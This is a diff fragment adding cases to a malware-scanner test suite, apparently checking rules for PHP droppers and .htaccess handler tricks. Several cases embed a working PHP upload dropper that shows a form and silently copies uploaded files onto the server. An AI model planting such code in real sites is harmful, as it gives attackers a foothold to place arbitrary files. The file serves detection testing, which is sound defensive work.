+            "<?php\necho '<form method=post enctype=multipart/form-data><input type=file name=file></form>';\n@copy($_FILES[file][tmp_name], $dir . '/' . md5($_FILES[file][name]));\n"
+        ),
+        False,
+    ),
+    (
+        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
+        embedded(
+            "<?php\necho '<form method=post enctype=multipart/form-data><input type=file name=file></form>';\n@copy($_FILES[file][tmp_name], $dir . '/' . md5($_FILES[file][name]));\n"
+        ),
+        False,
+    ),
     ("SPAMGEAR_POLYGLOT_HtaccessHandler", plain("Options +ExecCGI\nAddHandler cgi-script .cgi .pl\n"), False),
     (
         "SPAMGEAR_POLYGLOT_HtaccessHandler",
@@ -4649,6 +5350,16 @@ CASES: list[tuple[str, bytes, bool]] = [
     (
         "SPAMGEAR_POLYGLOT_HtaccessHandler",
         ht_padded('php_value auto_prepend_file none\nphp_value include_path ".:/usr/share/php"\n'),
+        False,
+    ),
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        plain('<FilesMatch "\\.php$">\n  SetHandler proxy:fcgi://127.0.0.1:9000\n</FilesMatch>\n'),
+        False,
+    ),
+    (
+        "SPAMGEAR_POLYGLOT_HtaccessHandler",
+        ht_padded('<FilesMatch "\\.php$">\n  SetHandler proxy:fcgi://127.0.0.1:9000\n</FilesMatch>\n'),
         False,
     ),
     ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", plain("auto_prepend_file = /usr/share/php/prepend.inc\n"), False),
